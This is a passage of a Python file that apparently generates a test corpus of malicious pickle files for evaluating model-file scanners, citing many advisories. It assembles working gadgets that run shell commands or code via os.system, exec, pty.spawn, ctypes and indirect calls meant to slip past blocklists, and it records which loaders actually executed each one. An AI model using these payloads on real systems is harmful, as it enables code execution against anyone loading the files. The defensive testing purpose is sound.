        "test_support_assert_python_ok",
        "test.support.script_helper",
        "assert_python_ok",
        ["-c", PY_SRC],
        [PS + "GHSA-g38g-8gr9-h9xp"],
        "Spawns a Python interpreter with -c code.",
    )
    g(
        "PROCESS",
        "ensurepip_run_pip",
        "ensurepip",
        "_run_pip",
        [f"[]\nexec({PY_SRC!r})\nraise SystemExit(0)\n#"],
        [PS + "GHSA-xp4f-hrf8-rxw7"],
        "_run_pip formats args into a 'python -c' script: code injection, no pip involved.",
    )
    g(
        "PROCESS",
        "pip_main",
        "pip",
        "main",
        [["--log", REL_MARKER, "list"]],
        ["CVE-2025-1716", PS + "GHSA-655q-fx9r-782v"],
        "pip.main(argv): here only 'list' with a log file; in the real attack 'install <malicious package>'.",
    )
    g(
        "PROCESS",
        "venv_create_with_pip",
        "venv",
        "create",
        ["mlvet_venv", False, False, True, False, "x"],
        ["picklescan tests malicious20"],
        "venv.create(..., with_pip=True) runs ensurepip in a subprocess (slow; not executed by verify_live).",
        live=False,
    )
    g("PROCESS", "pty_spawn", "pty", "spawn", [argv], [PS + "GHSA-vqmv-47xg-9wpr"], "pty.spawn(argv).")
    a = Asm(4)
    a.glob("builtins", "list").tuple_of(
        [
            frag(
                4,
                lambda b: (
                    b.glob("builtins", "map")
                    .tuple_of([frag(4, lambda c: c.glob("os", "system")), [SHELL_CMD]])
                    .reduce()
                ),
            )
        ]
    ).reduce()
    r.add(
        "gadget_map_indirect_call",
        "GADGET-ATTR-INDIRECTION",
        [HIDE_SEEK + " (indirect invocation)"],
        "gadget_map_indirect_call.pkl",
        a.done(),
        "os.system",
        "list(map(os.system, [cmd])): os.system is never the REDUCE target, only an argument of map.",
        alt=("builtins.map",),
    )
    a = Asm(4)
    a.call("atexit", "register", frag(4, lambda b: b.glob("os", "system")), SHELL_CMD)
    r.add(
        "gadget_atexit_register",
        "GADGET-DELAYED",
        [],
        "gadget_atexit_register.pkl",
        a.done(),
        "os.system",
        "atexit.register(os.system, cmd): nothing runs during load(); the command fires at interpreter exit.",
        alt=("atexit.register",),
    )

    # -- file system ------------------------------------------------------------------------
    g("FILESYSTEM", "builtins_open_write", "builtins", "open", [REL_MARKER, "w"], [], "open(path, 'w').")
    g("FILESYSTEM", "codecs_open_write", "codecs", "open", [REL_MARKER, "w"], [], "codecs.open(path, 'w').")
    g(
        "FILESYSTEM",
        "shutil_copyfile",
        "shutil",
        "copyfile",
        ["/dev/null", REL_MARKER],
        ["saferpickle issue #1"],
        "shutil.copyfile(src, dst): copy/overwrite any file.",
    )
    g(
        "FILESYSTEM",
        "pathlib_write_text",
        "pathlib",
        "Path.write_text",
        [_inst("pathlib", "Path", REL_MARKER), "x"],
        [],
        "Path.write_text(path, data) via unbound method.",
        alt=("pathlib.Path",),
    )
    g(
        "FILESYSTEM",
        "logging_filehandler",
        "logging",
        "FileHandler",
        [REL_MARKER],
        [PS + "GHSA-m7j5-r2p5-c39r"],
        "logging.FileHandler creates the file.",
    )
    g(
        "FILESYSTEM",
        "distutils_write_file",
        "distutils.file_util",
        "write_file",
        [REL_MARKER, ["mlvet-test"]],
        [PS + "GHSA-m273-6v24-x4m4"],
        "distutils.file_util.write_file(path, lines).",
    )
    g(
        "FILESYSTEM",
        "sqlite3_connect",
        "sqlite3",
        "connect",
        [REL_MARKER],
        [FK + "UNSAFE_IMPORTS sqlite3"],
        "sqlite3.connect creates a database file.",
    )
    g(
        "FILESYSTEM",
        "zipfile_create",
        "zipfile",
        "ZipFile",
        [REL_MARKER, "w"],
        [],
        "zipfile.ZipFile(path, 'w').",
    )
    g(
        "FILESYSTEM",
        "linecache_read",
        "linecache",
        "getline",
        ["/etc/hostname", 1],
        ["modelaudit poc32"],
        "Reads an arbitrary file (no observable side effect).",
        loaders=(),
    )

    # -- network (loopback discard port; verify_live blocks and records the attempt) -----------
    g(
        "NETWORK",
        "socket_create_connection",
        "socket",
        "create_connection",
        [("127.0.0.1", 9)],
        ["picklescan tests malicious7"],
        "TCP connect.",
        loaders=("pickle",),
    )
    g(
        "NETWORK",
        "urllib_urlopen",
        "urllib.request",
        "urlopen",
        ["http://127.0.0.1:9/"],
        [PS + "GHSA-9726-w42j-3qjr"],
        "HTTP request (SSRF / exfiltration).",
    )
    g(
        "NETWORK",
        "smtplib_smtp",
        "smtplib",
        "SMTP",
        ["127.0.0.1", 9],
        ["fickling test_network_protocol_ssrf"],
        "SMTP constructor connects.",
    )
    g(
        "NETWORK",
        "ssl_get_server_certificate",
        "ssl",
        "get_server_certificate",
        [("127.0.0.1", 9)],
        ["picklescan dns_exfiltration.npy"],
        "TLS connect (DNS exfiltration with a crafted host name).",
    )
    g(
        "NETWORK",
        "requests_get",
        "requests",
        "get",
        ["http://127.0.0.1:9/"],
        ["picklescan tests malicious4"],
        "requests.get.",
    )
    g(
        "NETWORK",
        "webbrowser_open",
        "webbrowser",
        "open",
        ["http://127.0.0.1:9/"],
        ["picklescan: webbrowser '*'"],
        "Opens a URL in a browser.",
    )

    # -- import machinery / resolvers -------------------------------------------------------
    a = Asm(4)
    a.call("pkgutil", "resolve_name", "os:system").tuple_of([SHELL_CMD]).reduce()
    r.add(
        "gadget_pkgutil_resolve_name",
        "GADGET-IMPORT",
        [PS + "GHSA-vvpj-8cmc-gx39"],
        "gadget_pkgutil_resolve_name.pkl",
        a.done(),
        "pkgutil.resolve_name",
        "resolve_name('os:system') returns os.system, then REDUCE calls it: one universal bypass of any blocklist.",
        alt=("os.system",),
    )
    a = Asm(4)
    a.call("pydoc", "locate", "os.system").tuple_of([SHELL_CMD]).reduce()
    r.add(
        "gadget_pydoc_locate",
        "GADGET-IMPORT",
        [FK + "GHSA-5hvc-6wx8-mvv4", PS + "GHSA-84r2-jw7c-4r5q"],
        "gadget_pydoc_locate.pkl",
        a.done(),
        "pydoc.locate",
        "pydoc.locate('os.system') imports and returns it.",
        alt=("os.system",),
    )
    a = Asm(4)
    a.glob("operator", "attrgetter").tuple_of(["system"]).reduce()
    a.tuple_of([frag(4, lambda b: b.call("importlib", "import_module", "os"))]).reduce()
    a.tuple_of([SHELL_CMD]).reduce()
    r.add(
        "gadget_importlib_import_module",
        "GADGET-IMPORT",
        [FK + "GHSA-q5qq-mvfm-j35x", "picklescan issue #66"],
        "gadget_importlib_import_module.pkl",
        a.done(),
        "importlib.import_module",
        "attrgetter('system')(import_module('os'))(cmd).",
        alt=("operator.attrgetter", "os.system"),
    )
    a = Asm(4)
    a.glob("operator", "methodcaller").tuple_of(["system", SHELL_CMD]).reduce()
    a.tuple_of([frag(4, lambda b: b.call("cloudpickle.cloudpickle", "subimport", "os"))]).reduce()
    r.add(
        "gadget_cloudpickle_subimport",
        "GADGET-IMPORT",
        [PS + "GHSA-9m3x-qqw2-h32h"],
        "gadget_cloudpickle_subimport.pkl",
        a.done(),
        "cloudpickle.cloudpickle.subimport",
        "cloudpickle's subimport('os') returns a module; methodcaller calls system on it.",
        alt=("operator.methodcaller", "os.system"),
    )

    # -- attribute indirection --------------------------------------------------------------
    a = Asm(0)
    a.global_("builtins", "__import__").mark().unicode("os").tuple_().reduce().put(0).pop()
    a.global_("_operator", "attrgetter").mark().unicode("system").tuple_().reduce()
    a.mark().get(0).tuple_().reduce().mark().unicode(SHELL_CMD).tuple_().reduce()
    r.add(
        "gadget_operator_attrgetter",
        "GADGET-ATTR-INDIRECTION",
        [PS + "GHSA-46h3-79wf-xr6c", "picklescan tests malicious12"],
        "gadget_operator_attrgetter.pkl",
        a.done(),
        "_operator.attrgetter",
        "attrgetter('system')(__import__('os'))(cmd).",
        alt=("operator.attrgetter", "builtins.__import__"),
    )
    a = Asm(4)
    a.glob("operator", "itemgetter").tuple_of(["exec"]).reduce()
    a.tuple_of([frag(4, lambda b: b.glob("collections", "__builtins__"))]).reduce()
    a.tuple_of([PY_SRC]).reduce()
    r.add(
        "gadget_operator_itemgetter_builtins",
        "GADGET-ATTR-INDIRECTION",
        [PS + "(itemgetter)"],
        "gadget_itemgetter_builtins.pkl",
        a.done(),
        "operator.itemgetter",
        "itemgetter('exec')(collections.__builtins__)(src).",
        alt=("collections.__builtins__", "builtins.exec"),
    )
    a = Asm(4)
    a.call("functools", "partial", frag(4, lambda b: b.glob("os", "system")), SHELL_CMD).empty_tuple().reduce()
    r.add(
        "gadget_functools_partial",
        "GADGET-ATTR-INDIRECTION",
        [PS + "(functools.partial)"],
        "gadget_functools_partial.pkl",
        a.done(),
        "os.system",
        "partial(os.system, cmd)(): the callable is wrapped before it is called.",
        alt=("functools.partial",),
    )
    a = Asm(4)
    a.glob("operator", "methodcaller").tuple_of(["system", SHELL_CMD.encode()]).reduce()
    a.tuple_of([frag(4, lambda b: b.call("ctypes", "CDLL", None))]).reduce()
    r.add(
        "gadget_ctypes_cdll_system",
        "GADGET-NATIVE",
        [PS + "GHSA-4675-36f9-wf6r", FK + "GHSA-5hvc-6wx8-mvv4"],
        "gadget_ctypes_cdll.pkl",
        a.done(),
        "ctypes.CDLL",
        "CDLL(None) is the process's libc; methodcaller calls libc system(). Arbitrary native code/memory.",
        alt=("operator.methodcaller",),
    )


# ---------------------------------------------------------------------------------------------
# Public API
# ---------------------------------------------------------------------------------------------

#: Loaders that really executed each sample in ``verify_live.py`` (CPython 3.11.7, torch 2.13.0+cpu,
#: numpy 2.4.6, joblib 1.6.0, py7zr 1.1.4, Linux). Overrides the hand-declared ``loaders`` so that
#: the field states observed behaviour, not expectations. Regenerate with
#: ``verify_live.py --emit-table`` after changing samples.
_ALL = ("pickle", "pickle-multi", "torch", "numpy", "joblib")
_VERIFIED_LOADERS: dict[str, tuple[str, ...]] = {
    "direct_os_system": _ALL,
    "direct_subprocess_popen": _ALL,
    "direct_subprocess_getoutput": _ALL,
    "direct_builtins_eval": _ALL,
    "direct_builtins_exec": _ALL,
    "direct_builtin_py2_eval": _ALL,
    "import_getattr_chain": _ALL,
    "import_getattr_chain_p2": _ALL,
    "protocol_0_os_system": _ALL,
    "protocol_1_os_system": _ALL,
    "protocol_2_os_system": _ALL,
    "protocol_3_os_system": _ALL,
    "protocol_4_os_system": _ALL,
    "protocol_5_os_system": _ALL,
    "protocol_5_binunicode8_operands": _ALL,
    "protocol_5_bytearray8_noise": _ALL,
    "stack_global_string_operands": _ALL,
    "alias_posix_system": _ALL,
    "alias_nt_system": (),
    "alias_io_fileio": _ALL,
    "alias_operator_private": _ALL,
    "alias_cpickle_loads": _ALL,
    "alias_commands_getoutput": _ALL,
    "alias_urllib_urlretrieve": _ALL,
    "alias_thread_start_new_thread": _ALL,
    "alias_builtin_reduce_py2": _ALL,
    "alias_posixsubprocess_fork_exec": _ALL,
    "inst_os_system": _ALL,
    "inst_builtin_exec": _ALL,
    "obj_pty_spawn": _ALL,
    "obj_result_popped": _ALL,
    "newobj_partial_os_system": _ALL,
    "newobj_ex_partial_kwargs": _ALL,
    "build_setstate_injection": _ALL,
    "stack_global_memo_binget": _ALL,
    "stack_global_memo_long_binget": _ALL,
    "stack_global_memo_text_get": _ALL,
    "stack_global_memo_put_memoize_mix": _ALL,
    "stack_global_memo_overwrite": _ALL,
    "stack_global_dup_pop": _ALL,
    "stack_global_pop_mark_decoy": _ALL,
    "stack_global_keyerror_after_payload": _ALL,
    "stack_global_type_confusion_after_payload": _ALL,
    "stack_global_name_from_rot13_call": _ALL,
    "stack_global_both_from_base64": _ALL,
    "stack_global_str_join": _ALL,
    "stack_global_from_build_attrs": _ALL,
    "dotted_pathlib_os_system": _ALL,
    "dotted_posixpath_os_system": _ALL,
    "dotted_asyncio_subprocess_popen": _ALL,
    "dotted_module_builtins_dict": _ALL,
    "dotted_after_build_sys_modules": _ALL,
    "dotted_object_getattribute": _ALL,
    "numpy_size_builtins_getitem": (),
    "ext1_self_registered": _ALL,
    "ext2_self_registered": _ALL,
    "ext4_self_registered": _ALL,
    "ext1_unregistered": (),
    "build_poisons_allowlisted_global": _ALL,
    "build_sets_instance_dunder": (),
    "unicode_escape_operands": _ALL,
    "string_escape_operands": _ALL,
    "string_double_quoted_operands": _ALL,
    "broken_invalid_opcode_after_reduce": _ALL,
    "broken_truncated_no_stop": _ALL,
    "broken_binunicode_overrun": _ALL,
    "broken_stack_underflow_after_payload": _ALL,
    "broken_mark_missing_after_payload": _ALL,
    "broken_trailing_junk_after_stop": _ALL,
    "multi_stream_payload_second": ("pickle-multi",),
    "multi_stream_payload_fifth": ("pickle-multi",),
    "multi_stream_junk_between": (),
    "frame_boundary_straddle": ("pickle", "pickle-multi", "torch", "numpy"),
    "proto_upgrade_midstream": _ALL,
    "no_proto_starts_with_mark": _ALL,
    "nested_pickle_loads": _ALL,
    "nested_cpickle_c_loads": _ALL,
    "nested_forkingpickler_loads": _ALL,
    "nested_unpickler_load_method": _ALL,
    "nested_base64_loads": _ALL,
    "nested_zlib_loads": _ALL,
    "nested_hex_loads": _ALL,
    "nested_torch_load_pickle_module": _ALL,
    "nested_torch_storage_load_from_bytes": _ALL,
    "nested_torch_basichandlers": _ALL,
    "nested_torch_config_load_config": _ALL,
    "nested_numpy_load_allow_pickle": _ALL,
    "nested_joblib_load": _ALL,
    "nested_dill_loads": _ALL,
    "nested_cloudpickle_loads": _ALL,
    "nested_pandas_read_pickle": _ALL,
    "nested_lib2to3_grammar_loads": _ALL,
    "nested_marshal_function": _ALL,
    "nested_torch_load_pickle_file_json": _ALL,
    "torch_zip_data_pkl": ("torch",),
    "torch_zip_custom_prefix": ("torch",),
    "torch_zip_other_pkl_member": ("torch:pickle_file=extra/tokenizer.pkl",),
    "torch_zip_payload_txt_member": ("torch:pickle_file=notes.txt",),
    "zip_bad_crc": ("torch",),
    "zip_flag_0x01": (),
    "zip_flag_0x20": (),
    "zip_flag_0x40": (),
    "zip_flag_encrypted_local_only": ("torch",),
    "zip_data_descriptor": ("torch",),
    "zip_local_name_mismatch": ("torch",),
    "zip_duplicate_name_malicious_first": (),
    "zip_duplicate_name_malicious_last": ("torch",),
    "zip_corrupt_extra_field": ("torch",),
    "zip_corrupt_entry_before_data": (),
    "zip_prefix_junk": (),
    "zip_prefix_pickle_polyglot": _ALL,
    "zip_comment_fake_eocd": (),
    "legacy_payload_in_magic": _ALL,
    "legacy_payload_in_protocol": ("pickle-multi", "torch"),
    "legacy_payload_in_sys_info": ("pickle-multi", "torch"),
    "legacy_payload_in_data": ("pickle-multi", "torch"),
    "legacy_payload_in_storage_keys": ("pickle-multi", "torch"),
    "legacy_magic_via_eval": ("pickle-multi", "torch"),
    "legacy_tar_payload_in_storages": ("torch",),
    "legacy_tar_payload_in_tensors": ("torch",),
    "legacy_tar_payload_in_pickle": ("torch",),
    "npy_object_v1": ("numpy",),
    "npy_object_v2": ("numpy",),
    "npy_object_v3": ("numpy",),
    "npy_structured_object_field": ("numpy",),
    "npy_raw_pickle_renamed": _ALL,
    "npz_object_member_stored": ("numpy",),
    "npz_object_member_deflated": ("numpy",),
    "joblib_zlib": ("joblib",),
    "joblib_gzip": ("joblib",),
    "joblib_bz2": ("joblib",),
    "joblib_xz": ("joblib",),
    "joblib_lzma_alone": ("joblib",),
    "joblib_lz4": ("joblib",),
    "joblib_raw_pickle": _ALL,
    "joblib_inline_object_array": _ALL,
    "joblib_gzip_inline_object_array": ("joblib",),
    "sevenzip_torch_nullifai": ("extract+pickle",),
    "sevenzip_raw_pickle": ("extract+pickle",),
    "zip_in_zip_torch": ("extract+torch",),
    "tar_gz_torch": ("extract+torch",),
    "gzip_torch": ("extract+torch",),
    "tar_zip_pickle_double": ("extract+pickle",),
    "pickle_as_png": _ALL,
    "pickle_as_bin": _ALL,
    "pickle_no_extension": _ALL,
    "pickle_as_json": _ALL,
    "pickle_as_safetensors": ("pickle", "pickle-multi", "numpy", "joblib"),
    "pickle_png_trailer_polyglot": _ALL,
    "gadget_runpy_run_code": _ALL,
    "gadget_interactive_interpreter_runsource": _ALL,
    "gadget_cprofile_run": _ALL,
    "gadget_cprofile_runctx": _ALL,
    "gadget_profile_run": _ALL,
    "gadget_profile_profile_run": _ALL,
    "gadget_timeit_setup": _ALL,
    "gadget_trace_run": _ALL,
    "gadget_bdb_run": _ALL,
    "gadget_numpy_runstring": _ALL,
    "gadget_numpy_f2py_eval_length": _ALL,
    "gadget_torch_execwrapper": _ALL,
    "gadget_torch_evaluate_guards_expression": _ALL,
    "gadget_torch_bottleneck_run_cprofile": (),
    "gadget_torch_dynamo_guardbuilder_get": (),
    "gadget_idle_autocomplete_get_entity": _ALL,
    "gadget_idle_calltip_get_entity": _ALL,
    "gadget_idle_debugobj_settext": _ALL,
    "gadget_lib2to3_make_label": _ALL,
    "gadget_logging_dictconfig_factory": _ALL,
    "gadget_os_popen": _ALL,
    "gadget_os_posix_spawnp": _ALL,
    "gadget_os_spawnvp": _ALL,
    "gadget_os_execvp": _ALL,
    "gadget_subprocess_run": _ALL,
    "gadget_subprocess_check_output": _ALL,
    "gadget_subprocess_getstatusoutput": _ALL,
    "gadget_multiprocessing_spawnv_passfds": _ALL,
    "gadget_asyncio_unix_subprocess_start": _ALL,
    "gadget_uuid_get_command_stdout": _ALL,
    "gadget_osx_support_read_output": _ALL,
    "gadget_osx_support_find_build_tool": _ALL,
    "gadget_aix_support_read_cmd_output": (),
    "gadget_imaplib_imap4_stream": _ALL,
    "gadget_mailcap_findmatch": _ALL,
    "gadget_pydoc_pipepager": _ALL,
    "gadget_pydoc_tempfilepager": _ALL,
    "gadget_torch_collect_env_run": _ALL,
    "gadget_torch_collect_env_run_and_read_all": _ALL,
    "gadget_distutils_spawn": _ALL,
    "gadget_webbrowser_genericbrowser_open": _ALL,
    "gadget_test_support_assert_python_ok": _ALL,
    "gadget_ensurepip_run_pip": _ALL,
    "gadget_pip_main": _ALL,
    "gadget_pty_spawn": _ALL,
    "gadget_map_indirect_call": _ALL,
    "gadget_atexit_register": _ALL,
    "gadget_builtins_open_write": _ALL,
    "gadget_codecs_open_write": _ALL,
    "gadget_shutil_copyfile": _ALL,
    "gadget_pathlib_write_text": _ALL,
    "gadget_logging_filehandler": _ALL,
    "gadget_distutils_write_file": _ALL,
    "gadget_sqlite3_connect": _ALL,
    "gadget_zipfile_create": _ALL,
    "gadget_linecache_read": (),
    "gadget_socket_create_connection": _ALL,
    "gadget_urllib_urlopen": _ALL,
    "gadget_smtplib_smtp": _ALL,
    "gadget_ssl_get_server_certificate": _ALL,
    "gadget_requests_get": _ALL,
    "gadget_webbrowser_open": _ALL,
    "gadget_pkgutil_resolve_name": _ALL,
    "gadget_pydoc_locate": _ALL,
    "gadget_importlib_import_module": _ALL,
    "gadget_cloudpickle_subimport": _ALL,
    "gadget_operator_attrgetter": _ALL,
    "gadget_operator_itemgetter_builtins": _ALL,
    "gadget_functools_partial": _ALL,
    "gadget_ctypes_cdll_system": _ALL,
}

_SECTIONS: tuple[Callable[[_Reg], None], ...] = (
    _direct,
    _protocols,
    _aliases,
    _call_opcodes,
    _stack_global,
    _dotted,
    _ext,
    _build_poison,
    _string_escapes,
    _stream,
    _nested,
    _torch,
    _numpy,
    _joblib,
    _sevenzip,
    _nested_archives,
    _names,
    _gadgets,
)


def build_all() -> list[Sample]:
    """Every sample, in a stable order. Names are unique; building executes nothing."""
    reg = _Reg()
    for section in _SECTIONS:
        section(reg)
    seen: set[str] = set()
    out: list[Sample] = []
    for sample in reg.samples:
        if sample.name in seen:
            raise AssertionError(f"duplicate sample name {sample.name}")
        seen.add(sample.name)
        if sample.live and sample.name in _VERIFIED_LOADERS:
            sample = replace(sample, loaders=_VERIFIED_LOADERS[sample.name])  # noqa: PLW2901
        out.append(sample)
    return out


def write_all(dest: Path) -> list[Path]:
    """Write each sample as ``dest/<name>/<filename>`` (the filename may be misleading on purpose)."""
    dest = Path(dest)
    paths: list[Path] = []
    for s in build_all():
        d = dest / s.name
        d.mkdir(parents=True, exist_ok=True)
        p = d / s.filename
        p.write_bytes(s.data)
        paths.append(p)
    return paths


if __name__ == "__main__":  # pragma: no cover - manual use
    out = Path(sys.argv[1] if len(sys.argv) > 1 else "malicious_corpus")
    for path in write_all(out):
        print(path)
